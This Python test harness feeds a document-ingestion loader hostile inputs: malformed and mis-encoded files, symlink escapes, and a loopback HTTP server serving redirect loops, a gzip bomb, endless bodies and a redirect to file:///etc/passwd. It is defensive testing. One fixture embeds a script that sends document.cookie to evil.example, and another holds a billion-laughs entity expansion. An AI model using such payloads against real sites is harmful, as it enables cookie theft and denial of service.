"""Hostile-input reliability harness: feed the loader every kind of bad input we know of.

Three parts:

* ``write_hostile_corpus(folder)`` writes files that are broken or odd in one
  way each (wrong or missing charsets, binary under an .html name, truncated,
  oversized, deeply nested, unreadable, odd names, symlinks out of the folder…)
  and returns what each should become: loaded, duplicate, or rejected with a
  reason.
* ``HostileServer`` is an HTTP server on 127.0.0.1 that misbehaves in one way
  per path (404, 500, slow, redirect loop, oversized, gzip bomb, slow drip,
  endless chunked body, robots.txt-disallowed, PDF…). Every loop in it is
  bounded in count and in time, and it shuts itself down after ``lifetime``.
* ``run_reliability(workdir)`` ingests both through the real loader
  (``ingest_folder`` and ``ingest_inputs(iter_web(...))``) into a throwaway
  build DuckDB and compares ``raw.ingest_log`` with the expectations. An input
  is *lost* when it has no log row, or is rejected without a reason; the
  figure must be 0, and inputs must equal loaded + duplicates + rejected.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import shutil
import socket
import threading
import time
import zipfile
from collections import Counter
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Self

from ingest.pipeline import ingest_folder, ingest_inputs, new_run_id
from ingest.sources.folder import MAX_FILE_BYTES
from ingest.sources.web import FetchSettings, iter_web
from ingest.warehouse import connect

OUTCOMES = ("loaded", "duplicate", "rejected")


@dataclass(frozen=True)
class Expected:
    """What one input of a case should become."""

    ref: str  # file path relative to the corpus folder, or the URL path on the hostile server
    outcome: str  # loaded | duplicate | rejected
    reason: str | None = None  # substring of the logged reason (for loaded inputs: of the notes)
    encoding: str | None = None  # substring of the detected encoding
    contains: tuple[str, ...] = ()  # in the clean text
    excludes: tuple[str, ...] = ()  # not in the clean text
    url: str | None = None  # the document's url column
    requests: tuple[int, int] | None = None  # web: how often the server saw the path (min, max)


@dataclass
class HostileCase:
    name: str
    source: str  # file | web
    description: str
    inputs: list[Expected]
    files: list[str] = field(default_factory=list)  # every path written, sidecars and targets included
    never_logged: list[str] = field(default_factory=list)  # paths that must not become inputs


# --- documents -------------------------------------------------------------------------------


def notice(n: int) -> str:
    """A short simplified-Chinese notice, unique by ``n`` (so no two cases collide as duplicates)."""
    return (
        f"泉州市科技局关于第{n}号测试通知的说明。到2025年，全市研发经费投入达到{300 + n}亿元，"
        f"高新技术企业数量突破{3000 + n}家，每万人口发明专利拥有量达到{n % 9 + 1}件。"
        "各县（市、区）要加强组织领导，抓好任务落实。"
    )


def notice_traditional(n: int) -> str:
    return (
        f"泉州市科技局關於第{n}號測試通知的說明。到2025年，全市研發經費投入達到{300 + n}億元，"
        f"高新技術企業數量突破{3000 + n}家。各縣（市、區）要加強組織領導，抓好任務落實。"
    )


def page(body: str, title: str = "通知", head: str = "", charset: str | None = None) -> str:
    meta = f'<meta charset="{charset}">' if charset else ""
    return (
        f"<!DOCTYPE html><html><head>{meta}<title>{title}</title>{head}</head><body>"
        f'<div class="article"><h1>{title}</h1><p>{body}</p><p>特此通知。</p></div></body></html>'
    )


def marker(n: int) -> str:
    return f"第{n}号"


# --- the file corpus ---------------------------------------------------------------------------


def _double_encode(text: str, codec: str) -> bytes:
    """UTF-8 bytes read as ``codec`` (latin-1 or cp1252) and saved as UTF-8: classic mojibake."""
    raw = text.encode("utf-8")
    if codec == "latin-1":
        return raw.decode("latin-1").encode("utf-8")
    # cp1252 leaves five bytes undefined; Windows tools pass them through as C1 controls.
    return "".join(bytes([b]).decode("cp1252", errors="ignore") or chr(b) for b in raw).encode("utf-8")


def _billion_laughs(body: str) -> str:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">' for i in range(1, 10)
    )
    return f'<?xml version="1.0"?><!DOCTYPE html [{entities}]>' + page(body + "<span>&lol9;</span>")


def write_hostile_corpus(folder: str | Path) -> list[HostileCase]:
    """Write the hostile file corpus into ``folder`` and return the cases with their expectations.

    Symlink targets that must stay out of reach are written beside the folder,
    in ``<folder>-outside``.
    """
    root = Path(folder)
    root.mkdir(parents=True, exist_ok=True)
    outside = root.parent / f"{root.name}-outside"
    outside.mkdir(parents=True, exist_ok=True)
    cases: list[HostileCase] = []
    counter = iter(range(1, 10_000))

    def write(rel: str, data: bytes | str) -> str:
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        return rel

    def case(name: str, description: str, inputs: list[Expected], files: list[str] | None = None, **kw) -> None:
        cases.append(HostileCase(name, "file", description, inputs, files or [e.ref for e in inputs], **kw))

    def simple(name: str, description: str, rel: str, data: bytes | str, outcome: str, reason: str | None = None, **kw):
        write(rel, data)
        case(name, description, [Expected(rel, outcome, reason, **kw)])

    # Charsets.
    n = next(counter)
    simple("gbk_no_charset", "GBK bytes, no charset anywhere", "gbk.html", page(notice(n)).encode("gbk"),
           "loaded", encoding="gb18030", contains=(marker(n),))  # fmt: skip
    n = next(counter)
    rare = "䶮𠮷"  # CJK Extension A and B: four-byte sequences in GB18030, absent from GBK
    simple("gb18030_no_charset", "GB18030 bytes with 4-byte characters, no charset", "gb18030.txt",
           (notice(n) + rare).encode("gb18030"), "loaded", encoding="gb18030", contains=(marker(n), rare))  # fmt: skip
    n = next(counter)
    simple("big5_no_charset", "Big5 (traditional) bytes, no charset", "big5.html",
           page(notice_traditional(n)).encode("big5"), "loaded", encoding="big5", contains=(f"第{n}號",))  # fmt: skip
    n = next(counter)
    simple("declares_gb2312_is_utf8", "meta charset=gb2312, bytes are UTF-8", "lying-charset.html",
           page(notice(n), charset="gb2312"), "loaded", encoding="utf-8", contains=(marker(n),))  # fmt: skip
    n = next(counter)
    simple("utf8_bom", "UTF-8 with a byte-order mark", "bom.txt", "\ufeff" + notice(n),
           "loaded", encoding="utf-8", contains=(marker(n),), excludes=("\ufeff",))  # fmt: skip
    n = next(counter)
    simple("utf16_bom", "UTF-16 with a byte-order mark", "utf16.html", page(notice(n)).encode("utf-16"),
           "loaded", encoding="utf-16", contains=(marker(n),))  # fmt: skip
    n = next(counter)
    bad = page(notice(n)).encode("utf-8")
    cut = bad.index("抓好".encode()) + 1
    simple("mostly_utf8_invalid_bytes", "UTF-8 with a few invalid bytes (not GB18030 mojibake)", "broken-utf8.html",
           bad[:cut] + b"\xff\xfe" + bad[cut:], "loaded", "U+FFFD", encoding="utf-8", contains=(marker(n),))  # fmt: skip
    n = next(counter)
    simple("double_encoded_latin1", "UTF-8 read as Latin-1 and saved as UTF-8 again", "mojibake-latin1.html",
           _double_encode(page(notice(n)), "latin-1"), "loaded", "mojibake", contains=(marker(n), "泉州市"))  # fmt: skip
    n = next(counter)
    simple("double_encoded_cp1252", "UTF-8 read as cp1252 and saved as UTF-8 again", "mojibake-cp1252.txt",
           _double_encode(notice(n), "cp1252"), "loaded", "mojibake", contains=(marker(n), "泉州市"))  # fmt: skip

    # Empty and binary.
    simple("empty_file", "zero bytes", "empty.html", b"", "rejected", "empty")
    simple("whitespace_only", "only ASCII whitespace", "blank.txt", b" \n\t\r\n   \n", "rejected", "empty")
    simple("ideographic_spaces_only", "only U+3000 ideographic spaces and newlines", "blank-cjk.txt",
           "\u3000\u3000\n\u3000\n", "rejected", "no main text")  # fmt: skip
    simple("pdf_named_html", "a PDF under an .html name", "report.html",
           b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj <<>> endobj\n" + bytes(range(256)) * 4, "rejected", "PDF")  # fmt: skip
    simple("png_named_html", "a PNG under an .html name", "image.html",
           b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4, "rejected", "PNG")  # fmt: skip
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("notice.html", page(notice(next(counter))))
    simple("zip_named_html", "a zip archive under an .html name", "archive.html", buffer.getvalue(), "rejected", "zip")
    n = next(counter)
    head = (notice(n) * 3)[:150]
    simple("nul_bytes_in_text", "stray NUL bytes inside the text", "nul.txt",
           (head + "\x00\x00" + notice(n)).encode("utf-8"), "loaded", "control characters",
           contains=(marker(n),), excludes=("\x00",))  # fmt: skip
    n = next(counter)
    simple("control_characters", "ESC, BEL, form feed and DEL inside an HTML page", "controls.html",
           page(notice(n) + "\x1b[31m\x07\x0c\x7f" + notice(n)), "loaded", "control characters",
           contains=(marker(n),), excludes=("\x1b", "\x07"))  # fmt: skip

    # Broken and pathological HTML.
    n = next(counter)
    full = page(notice(n)).encode("utf-8")
    cut = full.index(b"<p>\xe7\x89\xb9")  # the closing paragraph, then cut inside its tag
    simple("truncated_mid_tag", "HTML cut off inside a tag", "truncated-tag.html", full[: cut + 2],
           "loaded", contains=(marker(n),))  # fmt: skip
    n = next(counter)
    full = page(notice(n) + notice(n + 1000)).encode("utf-8")
    simple("truncated_mid_character", "a download cut off inside a UTF-8 character", "truncated-char.html",
           full[: full.index("抓好".encode(), len(full) // 2) + 1], "loaded", "U+FFFD", encoding="utf-8",
           contains=(marker(n),))  # fmt: skip
    target = MAX_FILE_BYTES + 12 * 1024 * 1024  # 20 MiB
    n = next(counter)
    paragraph = f"<p>{notice(n)}</p>\n".encode()
    with (root / "huge-20mb.html").open("wb") as handle:
        handle.write(b"<html><body>")
        handle.write(paragraph * (target // len(paragraph) + 1))
        handle.write(b"</body></html>")
    case("page_20mb", f"a 20 MiB page (cap: MAX_FILE_BYTES = {MAX_FILE_BYTES} bytes)",
         [Expected("huge-20mb.html", "rejected", "too large")])  # fmt: skip
    n = next(counter)
    simple("deeply_nested_tags", "the text inside 5000 nested divs", "nested.html",
           "<html><body>" + "<div>" * 5000 + f"<p>{notice(n)}</p>" + "</div>" * 5000 + "</body></html>",
           "loaded", "nesting", contains=(marker(n),))  # fmt: skip
    simple("all_script", "a page that is only scripts and styles", "script-only.html",
           "<html><head><script>var a = '泉州市科技局';" + "a += 1;" * 500 + "</script>"
           "<style>body { color: red }</style></head><body><script>document.write(a)</script></body></html>",
           "rejected", "no main text")  # fmt: skip
    n = next(counter)
    injected = (
        "<script>alert('xss'); fetch('https://evil.example/?c=' + document.cookie)</script>"
        "<style>p { color: red } .hidden { display: none }</style>"
        "<iframe src='javascript:alert(1)'></iframe><img src=x onerror=alert(2)>"
    )
    simple("script_style_injection", "script, style, iframe and onerror next to real Chinese text", "injected.html",
           page(notice(n) + injected + "<p>" + notice(n + 1000) + "</p>", head=injected), "loaded",
           contains=(marker(n),), excludes=("alert(", "document.cookie", "color: red", "javascript:"))  # fmt: skip
    n = next(counter)
    simple("markdown_with_script", "Markdown embedding a script and an iframe", "injected.md",
           f"# 第{n}号通知\n\n<script>alert('md')</script>\n\n{notice(n)}\n\n<iframe src='https://evil.example'></iframe>\n",
           "loaded", contains=(marker(n),), excludes=("alert(",))  # fmt: skip
    n = next(counter)
    simple("billion_laughs_entities", "an internal DTD with exponentially nested entities", "entities.html",
           _billion_laughs(notice(n)), "loaded", contains=(marker(n),), excludes=("lollollol",))  # fmt: skip
    n = next(counter)
    simple("huge_single_line", "3 MB of text on one line", "one-line.txt", notice(n) * 10_000,
           "loaded", contains=(marker(n),))  # fmt: skip
    n = next(counter)
    simple("cr_only_line_endings", "old-Mac CR line endings", "cr.txt",
           f"第{n}号通知\r当前位置：首页 > 通知\r{notice(n)}\r", "loaded",
           contains=(marker(n),), excludes=("当前位置",))  # fmt: skip
    simple("english_page", "a page in English only", "english.html",
           page("This notice is written in English only and names no Chinese place at all. " * 10, title="Notice"),
           "rejected", "not a Chinese document")  # fmt: skip

    # Metadata: front matter and sidecars.
    n = next(counter)
    simple("broken_yaml_front_matter", "front matter that is not YAML", "front-matter.md",
           f"---\ntitle: [unclosed\ndate: : :\n---\n{notice(n)}\n", "loaded", "front matter is not valid YAML",
           contains=(marker(n),))  # fmt: skip
    n = next(counter)
    write("sidecar-date.html", page(notice(n)))
    write("sidecar-date.meta.json", json.dumps({"publish_date": "2023-02-30", "title": "日期无效"}))
    case("sidecar_invalid_date", "a sidecar with 2023-02-30 as its date",
         [Expected("sidecar-date.html", "loaded", "not a valid date", contains=(marker(n),))],
         ["sidecar-date.html", "sidecar-date.meta.json"])  # fmt: skip
    n = next(counter)
    write("sidecar-json.html", page(notice(n)))
    write("sidecar-json.meta.json", '{"title": "没有结束的JSON", "url": ')
    case("sidecar_not_json", "a sidecar that is not valid JSON",
         [Expected("sidecar-json.html", "loaded", "ignored", contains=(marker(n),))],
         ["sidecar-json.html", "sidecar-json.meta.json"])  # fmt: skip
    n = next(counter)
    write("sidecar-list.html", page(notice(n)))
    write("sidecar-list.meta.json", json.dumps(["url", "https://example.org"]))
    case("sidecar_not_an_object", "a sidecar holding a JSON list",
         [Expected("sidecar-list.html", "loaded", "not a JSON object", contains=(marker(n),))],
         ["sidecar-list.html", "sidecar-list.meta.json"])  # fmt: skip

    # Duplicates and versions.
    n = next(counter)
    write("dup-a.html", page(notice(n)))
    write("dup-b.html", page(notice(n)))
    case("same_content_two_names", "the same bytes under two names",
         [Expected("dup-a.html", "loaded"), Expected("dup-b.html", "duplicate", "same content as")])  # fmt: skip
    url = "https://www.quanzhou.gov.cn/zwgk/reliability-version.html"
    n, m = next(counter), next(counter)
    for rel, body in (("version-1.html", notice(n)), ("version-2.html", notice(n) + notice(m))):
        write(rel, page(body))
        write(rel.replace(".html", ".meta.json"), json.dumps({"url": url}))
    case("same_url_new_content", "one URL (via sidecars) with changed content: both kept as versions",
         [Expected("version-1.html", "loaded", url=url), Expected("version-2.html", "loaded", url=url)],
         ["version-1.html", "version-1.meta.json", "version-2.html", "version-2.meta.json"])  # fmt: skip

    # Unreadable paths and symlinks.
    os.symlink("does-not-exist.html", root / "dangling.html")
    case("dangling_symlink", "a symlink to nothing", [Expected("dangling.html", "rejected", "unreadable")])
    os.symlink("loop-b.html", root / "loop-a.html")
    os.symlink("loop-a.html", root / "loop-b.html")
    case("symlink_loop", "two symlinks pointing at each other",
         [Expected("loop-a.html", "rejected", "unreadable"), Expected("loop-b.html", "rejected", "unreadable")])  # fmt: skip
    os.mkfifo(root / "pipe.html")  # reading it would block forever
    case("named_pipe", "a FIFO under an .html name", [Expected("pipe.html", "rejected", "named pipe")])
    (root / "directory.html").mkdir()
    case("directory_named_html", "a directory called directory.html",
         [Expected("directory.html", "rejected", "directory")])  # fmt: skip
    (outside / "secret.html").write_text(page(notice(next(counter)), title="语料库之外"), encoding="utf-8")
    os.symlink(outside / "secret.html", root / "escape.html")
    case("symlink_escaping_corpus", "a symlink to a file outside the corpus",
         [Expected("escape.html", "rejected", "escapes the corpus folder")])  # fmt: skip
    (outside / "linked-dir").mkdir(exist_ok=True)
    (outside / "linked-dir" / "inside.html").write_text(page(notice(next(counter))), encoding="utf-8")
    os.symlink(outside / "linked-dir", root / "linked-dir")
    case("symlinked_directory_outside", "a symlink to a directory outside: not descended into", [],
         ["linked-dir"], never_logged=["linked-dir/inside.html"])  # fmt: skip
    n = next(counter)
    write("inside-a-target.html", page(notice(n)))
    os.symlink("inside-a-target.html", root / "inside-b-link.html")
    case("symlink_inside_corpus", "a symlink to another corpus file: read once, logged as a duplicate",
         [Expected("inside-a-target.html", "loaded"), Expected("inside-b-link.html", "duplicate", "same content as")])  # fmt: skip
    n = next(counter)
    write("sidecar-escape.html", page(notice(n)))
    (outside / "meta.json").write_text(json.dumps({"title": "外部文件的标题"}), encoding="utf-8")
    os.symlink(outside / "meta.json", root / "sidecar-escape.meta.json")
    case("sidecar_escaping_corpus", "a sidecar that is a symlink out of the corpus: not read",
         [Expected("sidecar-escape.html", "loaded", "escapes the corpus folder", contains=(marker(n),))],
         ["sidecar-escape.html", "sidecar-escape.meta.json"])  # fmt: skip

    # Odd file names: each one a valid document.
    odd_names = [
        "name with  spaces.html", "中文文件名（通知）.html", "#?%&;'$`!.html", "-leading-dash.html",
        "n" * 195 + ".html", "new\nline.html", "rtl-\u202egpj.html", ".hidden.html", "UPPER.HTML",
    ]  # fmt: skip
    expected = []
    for name in odd_names:
        n = next(counter)
        write(name, page(notice(n)))
        expected.append(Expected(name, "loaded", contains=(marker(n),)))
    case("odd_file_names", "spaces, Chinese, #?%&, leading dash, 200 chars, newline, RTL override, hidden, upper case",
         expected)  # fmt: skip
    n = next(counter)
    gbk_name = os.fsdecode("政策".encode("gbk") + b".html")  # not UTF-8: kept as surrogate escapes
    write(gbk_name, page(notice(n)))
    case("non_utf8_file_name", "a file name in GBK bytes (an archive unpacked on Linux)",
         [Expected(gbk_name, "loaded", contains=(marker(n),))])  # fmt: skip
    return cases


# --- the hostile HTTP server -----------------------------------------------------------------


class HostileServer:
    """An HTTP server on 127.0.0.1 (port 0) that misbehaves in one way per path.

    Use as a context manager. Handlers run in daemon threads; every loop is
    bounded by a count and by ``stop`` (set on exit, or after ``lifetime``
    seconds by a timer), so nothing outlives the run.
    """

    def __init__(self, *, read_timeout: float = 1.0, max_bytes: int = 4_000_000, lifetime: float = 120.0) -> None:
        self.read_timeout = read_timeout
        self.max_bytes = max_bytes
        self.lifetime = lifetime
        self.stop = threading.Event()
        self.requests: Counter[str] = Counter()
        self._lock = threading.Lock()
        self._server: ThreadingHTTPServer | None = None
        self._threads: list[threading.Thread] = []
        self._timer: threading.Timer | None = None
        self.base_url = ""
        self.good_number = 9001
        self._bomb: bytes | None = None

    # Each route: (status, content type, body) or a method streaming its own response.
    def _static(self) -> dict[str, tuple[int, str, bytes]]:
        return {
            "/robots.txt": (200, "text/plain", b"User-agent: *\nDisallow: /private/\n"),
            "/good.html": (200, "text/html; charset=utf-8", page(notice(self.good_number)).encode()),
            "/gbk-no-charset.html": (200, "text/html", page(notice(self.good_number + 1)).encode("gbk")),
            "/lying-charset.html": (200, "text/html; charset=gb2312", page(notice(self.good_number + 2)).encode()),
            "/missing.html": (404, "text/html", b"<html><body>Not Found</body></html>"),
            "/error.html": (500, "text/html", b"<html><body>Internal Server Error</body></html>"),
            "/busy.html": (429, "text/html", b"<html><body>Too Many Requests</body></html>"),
            "/report.pdf": (200, "application/pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes(range(256)) * 8),
            "/empty.html": (200, "text/html", b""),
            "/private/secret.html": (200, "text/html", page(notice(self.good_number + 3)).encode()),
        }

    def _handler(self):
        owner = self
        static = self._static()

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"
            timeout = 30  # a client that stalls cannot hold a thread for long

            def log_message(self, *args):  # quiet
                pass

            def _head(self, status: int, content_type: str, length: int | None = None, **extra: str) -> None:
                self.send_response(status)
                self.send_header("Content-Type", content_type)
                self.send_header("Connection", "close")
                if length is not None:
                    self.send_header("Content-Length", str(length))
                for key, value in extra.items():
                    self.send_header(key.replace("_", "-"), value)
                self.end_headers()

            def do_GET(self):
                path = self.path.split("?", 1)[0]
                with owner._lock:
                    owner.requests[path] += 1
                self.close_connection = True
                try:
                    route = getattr(self, "route_" + path.strip("/").replace("-", "_").replace(".", "_"), None)
                    if path in static:
                        status, content_type, body = static[path]
                        self._head(status, content_type, len(body))
                        self.wfile.write(body)
                    elif route is not None:
                        route()
                    else:
                        self._head(404, "text/plain", 9)
                        self.wfile.write(b"not found")
                except (BrokenPipeError, ConnectionResetError, TimeoutError):
                    pass  # the client gave up, as it should

            def route_slow_html(self):
                # Headers only after three read timeouts (the server waits at most 10 s).
                owner.stop.wait(min(owner.read_timeout * 3, 10))
                body = page(notice(owner.good_number + 4)).encode()
                self._head(200, "text/html; charset=utf-8", len(body))
                self.wfile.write(body)

            def route_loop(self):
                self._head(302, "text/html", 0, Location="/loop")

            def route_redirect_to_file(self):
                self._head(302, "text/html", 0, Location="file:///etc/passwd")

            def route_oversized_html(self):
                chunk = f"<p>{notice(owner.good_number + 5)}</p>".encode() * 200
                total = owner.max_bytes * 2
                self._head(200, "text/html; charset=utf-8", total)
                sent = 0
                while sent < total and not owner.stop.is_set():  # bounded: total bytes
                    piece = chunk[: total - sent]
                    self.wfile.write(piece)
                    sent += len(piece)

            def route_bomb_html(self):
                body = owner.gzip_bomb()
                self._head(200, "text/html; charset=utf-8", len(body), Content_Encoding="gzip")
                self.wfile.write(body)

            def route_drip_html(self):
                # One byte every 0.2 s: never trips a read timeout; at most 150 bytes (30 s).
                self._head(200, "text/html; charset=utf-8", 150)
                for _ in range(150):
                    if owner.stop.wait(0.2):
                        return
                    self.wfile.write(b" ")
                    self.wfile.flush()

            def route_endless_html(self):
                # Chunked, never ending on its own: bounded by 4096 chunks (256 MiB), 60 s and stop.
                self._head(200, "text/html; charset=utf-8", Transfer_Encoding="chunked")
                chunk = (f"<p>{notice(owner.good_number + 6)}</p>".encode() * 400)[:65536]
                deadline = time.monotonic() + 60
                for _ in range(4096):
                    if owner.stop.is_set() or time.monotonic() > deadline:
                        return
                    self.wfile.write(b"%x\r\n%s\r\n" % (len(chunk), chunk))

            def route_short_body_html(self):
                # Promises 100 000 bytes, sends a few and hangs up.
                self._head(200, "text/html; charset=utf-8", 100_000)
                self.wfile.write(page(notice(owner.good_number + 7)).encode()[:200])

        return Handler

    def gzip_bomb(self) -> bytes:
        """A small gzip body (about 0.1 % of its size) that inflates to 16 × ``max_bytes``."""
        if self._bomb is None:
            self._bomb = gzip.compress(b" " * (self.max_bytes * 16), compresslevel=9)
        return self._bomb

    def url(self, path: str) -> str:
        return self.base_url + path

    def __enter__(self) -> Self:
        server = ThreadingHTTPServer(("127.0.0.1", 0), self._handler())
        server.daemon_threads = True
        server.block_on_close = False  # a handler still dripping never blocks the shutdown
        self._server = server
        self.base_url = f"http://127.0.0.1:{server.server_address[1]}"
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.1}, daemon=True)
        thread.start()
        self._threads.append(thread)
        self._timer = threading.Timer(self.lifetime, self.close)
        self._timer.daemon = True
        self._timer.start()
        return self

    def close(self) -> None:
        self.stop.set()
        if self._timer is not None:
            self._timer.cancel()
        server, self._server = self._server, None
        if server is not None:
            server.shutdown()
            server.server_close()

    def __exit__(self, *exc) -> None:
        self.close()


def closed_port() -> int:
    """A loopback port nothing listens on (bound, then released)."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def web_cases(server: HostileServer) -> list[HostileCase]:
    """The web cases served by ``server``; refs are full URLs. Order matters: see ``run_reliability``."""
    g = server.good_number

    def one(name: str, description: str, path: str, outcome: str, reason: str | None = None, **kw) -> HostileCase:
        return HostileCase(name, "web", description, [Expected(server.url(path), outcome, reason, **kw)])

    return [
        one("good_page", "a well-formed UTF-8 notice", "/good.html", "loaded", contains=(marker(g),)),
        one("gbk_page_no_charset", "GBK bytes, text/html without a charset", "/gbk-no-charset.html", "loaded",
            encoding="gb18030", contains=(marker(g + 1),)),
        one("header_says_gb2312_bytes_utf8", "Content-Type charset=gb2312 over UTF-8 bytes", "/lying-charset.html",
            "loaded", encoding="utf-8", contains=(marker(g + 2),)),
        one("http_404", "not found: not retried", "/missing.html", "rejected", "HTTP 404", requests=(1, 1)),
        one("http_500", "server error: retried, then rejected", "/error.html", "rejected", "500", requests=(2, 50)),
        one("http_429", "rate limited: retried, then rejected", "/busy.html", "rejected", "429", requests=(2, 50)),
        one("redirect_loop", "302 to itself, forever", "/loop", "rejected", "redirect"),
        one("redirect_to_file_scheme", "302 to file:///etc/passwd", "/redirect-to-file", "rejected", "download failed"),
        one("oversized_body", "Content-Length twice the size cap", "/oversized.html", "rejected", "MAX_FILE_SIZE"),
        one("gzip_bomb", "a small gzip body inflating to 16× the cap", "/bomb.html", "rejected", "MAX_FILE_SIZE"),
        one("endless_chunked", "a chunked body that never ends", "/endless.html", "rejected", "MAX_FILE_SIZE"),
        one("robots_disallowed", "a path robots.txt disallows: never requested", "/private/secret.html",
            "rejected", "robots.txt", requests=(0, 0)),
        one("pdf_as_application_pdf", "a PDF served as application/pdf", "/report.pdf", "rejected", "PDF"),
        one("empty_body", "200 with an empty body", "/empty.html", "rejected", "empty"),
        one("body_shorter_than_length", "Content-Length 100000, 200 bytes, then hang-up", "/short-body.html",
            "rejected", "download failed"),
        HostileCase("unsupported_scheme", "web", "an ftp:// URL", [
            Expected("ftp://127.0.0.1/notice.html", "rejected", "unsupported URL scheme")]),
        HostileCase("connection_refused", "web", "a closed loopback port", [
            Expected(f"http://127.0.0.1:{closed_port()}/notice.html", "rejected", "download failed")]),
        # Slow ones last: a request abandoned at the wall-clock cap finishes in the background.
        one("slower_than_read_timeout", "headers only after three read timeouts", "/slow.html", "rejected", "timed out"),
        one("slow_drip", "one byte every 0.2 s", "/drip.html", "rejected", "timed out after"),
    ]


# --- the run -----------------------------------------------------------------------------------


@dataclass
class CaseResult:
    case: str
    source: str
    input: str  # what the report shows: a relative path or a URL path
    source_uri: str
    expected: str
    actual: str  # an outcome, or "lost" (no ingest_log row)
    expected_reason: str | None
    reason: str | None
    problems: list[str]

    @property
    def ok(self) -> bool:
        return not self.problems


@dataclass
class ReliabilityReport:
    run_id: str
    results: list[CaseResult]
    kinds: int
    kinds_by_source: dict[str, int]
    inputs: int
    outcomes: Counter
    rejected_with_reason: int
    lost: int
    unexpected: list[str]  # log rows for no expected input (e.g. a path that must never be read)
    crashes: list[str]
    seconds: float

    @property
    def loaded(self) -> int:
        return self.outcomes["loaded"]

    @property
    def duplicates(self) -> int:
        return self.outcomes["duplicate"]

    @property
    def rejected(self) -> int:
        return self.outcomes["rejected"]

    @property
    def reconciles(self) -> bool:
        return self.inputs == self.loaded + self.duplicates + self.rejected

    @property
    def mismatches(self) -> list[CaseResult]:
        return [r for r in self.results if not r.ok]

    @property
    def ok(self) -> bool:
        return self.lost == 0 and self.reconciles and not self.mismatches and not self.unexpected and not self.crashes

    def totals(self) -> dict:
        return {
            "kinds": self.kinds, **{f"kinds_{k}": v for k, v in self.kinds_by_source.items()},
            "inputs": self.inputs, "loaded": self.loaded, "duplicate": self.duplicates, "rejected": self.rejected,
            "rejected_with_reason": self.rejected_with_reason, "lost": self.lost,
            "reconciles": self.reconciles, "mismatches": len(self.mismatches), "unexpected": len(self.unexpected),
            "crashes": len(self.crashes), "seconds": round(self.seconds, 1),
        }  # fmt: skip


def hostile_fetch_settings(**overrides) -> FetchSettings:
    """Small limits so the whole web part takes seconds; loopback allowed (the server is ours)."""
    settings = {
        "timeout_seconds": 1, "max_bytes": 4_000_000, "max_redirects": 2, "total_timeout_seconds": 3,
        "attempts": 2, "retry_backoff_seconds": 0, "per_host_delay_seconds": 0, "allow_private_addresses": True,
    }  # fmt: skip
    return FetchSettings(**(settings | overrides))


def _check(case: HostileCase, exp: Expected, rows: list[tuple], docs: dict, requests: Counter, ref: str, uri: str):
    problems: list[str] = []
    if not rows:
        return CaseResult(case.name, case.source, ref, uri, exp.outcome, "lost", exp.reason, None, ["no ingest_log row"])
    if len(rows) > 1:
        problems.append(f"{len(rows)} ingest_log rows")
    outcome, reason, document_id, encoding = rows[0]
    if outcome != exp.outcome:
        problems.append(f"expected {exp.outcome}, got {outcome}")
    if outcome == "rejected" and not (reason or "").strip():
        problems.append("rejected without a reason")
    if exp.reason and exp.reason.lower() not in (reason or "").lower():
        problems.append(f"reason lacks {exp.reason!r}")
    if exp.encoding and exp.encoding not in (encoding or ""):
        problems.append(f"encoding {encoding!r}, expected {exp.encoding!r}")
    clean_text, url = docs.get(document_id, (None, None))
    if exp.contains or exp.excludes:
        text = clean_text or ""
        problems += [f"clean text lacks {s!r}" for s in exp.contains if s not in text]
        problems += [f"clean text keeps {s!r}" for s in exp.excludes if s in text]
    if exp.url and url != exp.url:
        problems.append(f"url {url!r}, expected {exp.url!r}")
    if exp.requests is not None:
        path = exp.ref.split("://", 1)[-1].split("/", 1)[-1]
        seen = requests["/" + path]
        low, high = exp.requests
        if not low <= seen <= high:
            problems.append(f"server saw {seen} requests, expected {low}–{high}")
    return CaseResult(case.name, case.source, ref, uri, exp.outcome, outcome, exp.reason, reason, problems)


def run_reliability(workdir: str | Path) -> ReliabilityReport:
    """Ingest the hostile corpus and the hostile server's URLs; compare the log with expectations."""
    started = time.monotonic()
    workdir = Path(workdir)
    workdir.mkdir(parents=True, exist_ok=True)
    corpus = workdir / "hostile-corpus"
    build = workdir / "reliability.build.duckdb"
    # A rerun in the same workdir starts clean: old documents would turn every case into a duplicate.
    for path in (corpus, corpus.with_name(corpus.name + "-outside"), build.with_name(build.stem + ".staging")):
        shutil.rmtree(path, ignore_errors=True)  # does not follow the symlinks inside
    for path in (build, build.with_name(build.name + ".wal")):
        path.unlink(missing_ok=True)
    run_id = new_run_id()
    crashes: list[str] = []
    file_cases = write_hostile_corpus(corpus)
    root = corpus.resolve()

    def file_uri(rel: str) -> str:
        return (root / rel).absolute().as_uri()

    def attempt(what: str, step) -> None:
        # The loader must not raise on any input; if it does, that is a finding, not a harness crash.
        try:
            step()
        except Exception as exc:  # noqa: BLE001 (reported, and every input of the step counts as lost)
            crashes.append(f"{what}: {type(exc).__name__}: {exc}")

    # One run id per ingest call: a call that fails must not leave the next one a half-done run.
    run_ids = {part: f"{run_id}-{part}" for part in ("folder", "guarded", "web")}
    attempt("folder", lambda: ingest_folder(build, corpus, run_ids["folder"]))
    with HostileServer(read_timeout=1, max_bytes=4_000_000) as server:
        cases_web = web_cases(server)
        # The SSRF guard with its default: loopback refused before any byte is sent.
        ssrf_url = server.url("/good.html?ssrf")
        cases_web.insert(0, HostileCase("ssrf_guard_default", "web", "loopback with the default SSRF guard on",
                                        [Expected(ssrf_url, "rejected", "SSRF")]))  # fmt: skip
        guarded = hostile_fetch_settings(allow_private_addresses=False, respect_robots_txt=False)
        attempt("web (guard on)", lambda: ingest_inputs(build, iter_web([ssrf_url], settings=guarded), run_ids["guarded"]))
